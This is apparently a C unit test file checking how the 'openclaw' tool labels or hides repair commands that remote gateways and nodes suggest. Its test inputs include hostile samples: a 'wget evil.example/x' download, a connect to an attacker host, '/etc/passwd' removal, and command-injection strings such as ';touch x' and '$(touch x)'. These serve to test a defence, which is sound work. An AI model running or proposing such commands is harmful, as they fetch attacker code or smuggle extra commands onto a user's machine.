#include "tests/unit/unit.h"

#include "lib/text/fix.h"

static void a_fix_that_a_peer_names_is_a_command_of_ours_or_marked(void **state) {
    (void)state;
    static const char *const rows[][2] = {
        { "openclaw nodes approve 1-2", "openclaw nodes approve 1-2" },
        { "openclaw approvals allowlist add --node a <path of the program>",
                "openclaw approvals allowlist add --node a <path of the program>" },
        { "on the node run: openclaw node run", "on the node run: openclaw node run" },
        { "openclaw approvals allowlist add '/a b' --node 12",
                "openclaw approvals allowlist add '/a b' --node 12" },
        { "the node says: openclaw x", "the gateway says: the node says: openclaw x" },
        { "openclaw devices approve --latest --yes",
                "the gateway says: openclaw devices approve --latest --yes" },
        { "openclaw devices approve '--latest'",
                "the gateway says: openclaw devices approve '--latest'" },
        { "openclaw devices approve a b", "the gateway says: openclaw devices approve a b" },
        { "openclaw node run --host evil.example.com",
                "the gateway says: openclaw node run --host evil.example.com" },
        { "on the node run: openclaw node run --pair abcdef",
                "the gateway says: on the node run: openclaw node run --pair abcdef" },
        { "openclaw nodes approve ", "the gateway says: openclaw nodes approve " },
        { "wget evil.example/x", "the gateway says: wget evil.example/x" },
        { "add \"x\" to the list", "the gateway says: add \"x\" to the list" },
        { "openclaw status;touch x", NULL },
        { "openclaw status $(touch x)", NULL },
        { "openclaw status <a> .bashrc", NULL },
        { "openclaw status >.bashrc", NULL },
        { "openclaw status\ntouch x", NULL },
        { "openclaw \u202e x", NULL },
        { " ", NULL },
    };
    for (size_t i = 0; i < OC_COUNT(rows); i++) {
        OC_AUTO_FREE char *told = oc_fix_told(OC_SPEAKER_GATEWAY, rows[i][0]);
        assert_string_equal(told,
                rows[i][1]
                        ? rows[i][1]
                        : "the gateway named a fix that is not plain text; it is not shown here");
    }
    assert_null(oc_fix_told(OC_SPEAKER_GATEWAY, NULL));
}

/* A node speaks for its own machine alone. */
static void a_fix_that_a_node_names_is_not_shown_as_ours(void **state) {
    (void)state;
    static const char *const theirs[] = { "openclaw devices approve --latest --yes",
        "openclaw nodes approve 1", "openclaw approvals security full --node all",
        "openclaw approvals security full", "openclaw nodes allow system.run",
        "openclaw node run --host evil.example.com --port 443 --tls",
        "on the node run: openclaw node run --pair abcdef", "repair or remove /etc/passwd",
        "on the node run: openclaw approvals security full --node other",
        "on the node run: openclaw approvals ask on-miss --node other",
        "restart the node, then openclaw devices approve --latest" };
    static const char *const ours[] = { "on the node run: openclaw node enable camera",
        "on the node run: openclaw approvals security allowlist",
        "on the node name FOO in the list node.exec.env.allow of openclaw.json" };
    for (size_t i = 0; i < OC_COUNT(theirs); i++) {
        OC_AUTO_FREE char *told = oc_fix_told(OC_SPEAKER_NODE, theirs[i]);
        OC_AUTO_FREE char *marked = oc_strfmt("the node says: %s", theirs[i]);
        assert_string_equal(told, marked);
    }
    for (size_t i = 0; i < OC_COUNT(ours); i++) {
        OC_AUTO_FREE char *told = oc_fix_told(OC_SPEAKER_NODE, ours[i]);
        assert_string_equal(told, ours[i]);
    }
    OC_AUTO_FREE char *hidden = oc_fix_told(OC_SPEAKER_NODE, "$(x)");
    assert_string_equal(
            hidden, "the node named a fix that is not plain text; it is not shown here");
}

/* Whatever we say of a remedy, another of ours that knows no remedies shows as ours; but for what
 * would work on the machine of who reads it. */
static void what_we_say_is_known_to_be_ours(void **state) {
    (void)state;
    for (int i = 1; i < 4 * OC_REMEDY_COUNT; i++) {
        struct oc_grounds g = { .remedy = (enum oc_remedy)(i % OC_REMEDY_COUNT) };
        oc_grounds_set_subject(&g, i / OC_REMEDY_COUNT % 2 ? "a b" : NULL);
        oc_grounds_set_node(&g, i / OC_REMEDY_COUNT / 2 ? "0123456789abcdef" : NULL);
        OC_AUTO_FREE char *fix = oc_fix_text(&g);
        OC_AUTO_FREE char *told = oc_fix_told(OC_SPEAKER_GATEWAY, fix);
        bool is_plain = fix && !strpbrk(fix, ";");
        bool is_here = oc_remedy_names_node(g.remedy) && !g.node_id[0];
        if (is_plain && (strcmp(told, fix) == 0) == is_here) {
            fail_msg("%s", told);
        }
    }
}

/* Anybody may be the one that refuses us: pasted here, its command would be for another gateway. */
static void who_does_not_let_us_in_speaks_of_its_own_machine(void **state) {
    (void)state;
    struct oc_grounds named = { .remedy = OC_REMEDY_APPROVE_DEVICE, .is_of_handshake = true };
    oc_grounds_set_subject(&named, "1-2");
    OC_AUTO_FREE char *by_name = oc_fix_text(&named);
    assert_string_equal(by_name, "on the gateway host run: openclaw devices approve 1-2");
    static const char *const rows[][2] = {
        { "openclaw devices approve 1-2", "on the gateway host run: openclaw devices approve 1-2" },
        { "the node says: openclaw approvals security full",
                "the gateway says: the node says: openclaw approvals security full" },
        { "openclaw approvals security full",
                "the gateway says: openclaw approvals security full" },
    };
    for (size_t i = 0; i < OC_COUNT(rows); i++) {
        struct oc_grounds g = { .is_of_handshake = true };
        oc_grounds_set_told(&g, OC_SPEAKER_GATEWAY, rows[i][0]);
        OC_AUTO_FREE char *fix = oc_fix_text(&g);
        assert_string_equal(fix, rows[i][1]);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_fix_that_a_peer_names_is_a_command_of_ours_or_marked),
        cmocka_unit_test(a_fix_that_a_node_names_is_not_shown_as_ours),
        cmocka_unit_test(what_we_say_is_known_to_be_ours),
        cmocka_unit_test(who_does_not_let_us_in_speaks_of_its_own_machine),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
